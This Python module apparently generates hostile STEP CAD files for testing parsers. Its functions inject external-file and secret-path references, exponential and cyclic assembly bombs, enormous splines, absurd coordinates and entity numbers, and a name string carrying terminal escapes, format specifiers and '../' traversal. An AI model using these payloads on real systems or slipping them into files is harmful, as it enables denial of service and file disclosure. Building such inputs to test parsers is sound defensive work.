"""STEP files that mean harm: each function makes one from a sound one (`step`) and the targets of the attack."""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

Targets = Mapping[str, Any]


def header_that_names_files(step: str, targets: Targets) -> str:
    name = f"FILE_NAME('{targets['outside']}/victim.txt','',(''),(''),'','{targets['secret']}','')"
    return re.sub(r"FILE_NAME\(.*?\);", f"{name};", step, count=1, flags=re.DOTALL)


def external_document(step: str, targets: Targets) -> str:
    return _with(
        step,
        "#900001=DOCUMENT_TYPE('');",
        f"#900002=DOCUMENT_FILE('{targets['secret']}','','',#900001,'',$);",
        f"#900003=APPLIED_EXTERNAL_IDENTIFICATION_ASSIGNMENT('{targets['secret']}',#900004,#900005,(#900002));",
        "#900004=IDENTIFICATION_ROLE('external document id and location',$);",
        f"#900005=EXTERNAL_SOURCE(IDENTIFIER('{targets['secret']}'));",
    )


def external_file_as_shape(step: str, targets: Targets) -> str:
    return re.sub(r"FILE_SCHEMA\(.*?\);", f"FILE_SCHEMA(('{targets['secret']}'));", step, count=1, flags=re.DOTALL)


def huge_spline(step: str, _: Targets) -> str:
    curve = "B_SPLINE_CURVE_WITH_KNOTS('',2147483647,(#900001),.UNSPECIFIED.,.F.,.F.,(2147483647),(0.),.UNSPECIFIED.)"
    face = _first(step, "PLANE")
    surface = (
        "B_SPLINE_SURFACE_WITH_KNOTS('',25,25,((#900001)),.UNSPECIFIED.,.F.,.F.,.F.,"
        "(2147483647,2147483647),(2147483647,2147483647),(0.,1.),(0.,1.),.UNSPECIFIED.)"
    )
    return _with(_replaced(step, face, surface), "#900001=CARTESIAN_POINT('',(0.,0.,0.));", f"#900002={curve};")


def spline_of_many_poles(step: str, _: Targets) -> str:
    row = "(" + ",".join(["#900001"] * 1000) + ")"
    poles = ",".join([row] * 300)
    knots = ",".join(str(float(knot)) for knot in range(998))
    multiplicities = "4," + "1," * 996 + "4"
    v_knots = ",".join(str(float(knot)) for knot in range(298))
    surface = (
        f"B_SPLINE_SURFACE_WITH_KNOTS('',3,3,({poles}),.UNSPECIFIED.,.F.,.F.,.F.,"
        f"({'4,' + '1,' * 296 + '4'}),({multiplicities}),({v_knots}),({knots}),.UNSPECIFIED.)"
    )
    return _with(_replaced(step, _first(step, "PLANE"), surface), "#900001=CARTESIAN_POINT('',(0.,0.,0.));")


def shape_within_itself(step: str, _: Targets) -> str:
    """A closed shell, one of whose faces is bounded by a loop that leads to the shell again."""
    shell = _first(step, "CLOSED_SHELL")
    return _replaced(step, shell, f"CLOSED_SHELL('',({shell},{shell}))")


def assembly_within_itself(step: str, _: Targets) -> str:
    """Every part is used in itself."""
    return re.sub(
        r"(NEXT_ASSEMBLY_USAGE_OCCURRENCE\('[^']*','[^']*','[^']*',)(#\d+),(#\d+)", r"\1\3,\3", step.replace("\n", "")
    )


def assembly_in_a_circle(step: str, _: Targets) -> str:
    """Every part is used in the whole, and the whole in every part."""
    flat = step.replace("\n", "")
    uses = re.findall(r"NEXT_ASSEMBLY_USAGE_OCCURRENCE\('[^']*','[^']*','[^']*',(#\d+),(#\d+)", flat)
    back = [
        f"#{900_000 + n}=NEXT_ASSEMBLY_USAGE_OCCURRENCE('{n}','','',{part},{whole},$);"
        for n, (whole, part) in enumerate(uses)
    ]
    return _with(step, *back)


def assembly_of_a_billion(step: str, _: Targets) -> str:
    """Thirty levels, each of which uses the one below ten times over."""
    product = re.search(r"(#\d+)\s*=\s*PRODUCT_DEFINITION\(", step)
    assert product
    lines, below, number = [], product[1], 900_000
    for _level in range(30):
        this = f"#{number}"
        lines.append(f"#{number}=PRODUCT_DEFINITION('','',#5,#6);")
        lines += [
            f"#{number + n}=NEXT_ASSEMBLY_USAGE_OCCURRENCE('{number + n}','','',{this},{below},$);"
            for n in range(1, 11)
        ]
        below, number = this, number + 20
    return _with(step, *lines)


def coordinates_not_numbers(step: str, _: Targets) -> str:
    return re.sub(r"CARTESIAN_POINT\('([^']*)',\([^)]*\)\)", r"CARTESIAN_POINT('\1',(NAN,1.E400,-1.E400))", step)


def coordinates_without_end(step: str, _: Targets) -> str:
    return re.sub(r"CARTESIAN_POINT\('([^']*)',\(([^,]*),", r"CARTESIAN_POINT('\1',(\g<2>1.E+300,", step)


def tiny_radius(step: str, _: Targets) -> str:
    """A surface whose tessellation to any bound takes for ever."""
    return re.sub(r"CYLINDRICAL_SURFACE\('([^']*)',(#\d+),[^)]*\)", r"TOROIDAL_SURFACE('\1',\2,1.E12,1.E-7)", step)


def deep_parentheses(step: str, _: Targets) -> str:
    depth = 1_000_000
    return _with(step, "#900001=X(" + "(" * depth + ")" * depth + ");")


def many_entities(step: str, _: Targets) -> str:
    return _with(step, *(f"#{number}=CARTESIAN_POINT('',(0.,0.,0.));" for number in range(900_000, 1_300_000)))


def huge_entity_number(step: str, _: Targets) -> str:
    return _with(step, "#99999999999999999999=CARTESIAN_POINT('',(0.,0.,0.));", "#-1=X(#2147483648);")


def name_of_megabytes(step: str, _: Targets) -> str:
    return step.replace("'near'", f"'{'n' * 5_000_000}'")


def name_for_a_terminal(step: str, targets: Targets) -> str:
    return step.replace("'near'", f"'\x1b]0;owned\x07%s%n\\X2\\D800\\X0\\../../{targets['marker']}'")


def spaces(_: str, __: Targets) -> bytes:
    return b" " * (64 * 2**20)


def empty(_: str, __: Targets) -> bytes:
    return b""


def truncated(step: str, _: Targets) -> str:
    return step[: len(step) // 2]


def not_text(step: str, _: Targets) -> bytes:
    return bytes(range(256)) * 1000 + step.encode()


def _with(step: str, *entities: str) -> str:
    return step.replace("ENDSEC;\nEND-ISO", "\n".join(entities) + "\nENDSEC;\nEND-ISO", 1)


def _first(step: str, kind: str) -> str:
    found = re.search(rf"(#\d+)\s*=\s*{kind}\(", step)
    assert found, f"the STEP file has no {kind}"
    return found[1]


def _replaced(step: str, number: str, entity: str) -> str:
    return re.sub(rf"{number}\s*=\s*.*?;", f"{number}={entity};", step, count=1, flags=re.DOTALL)
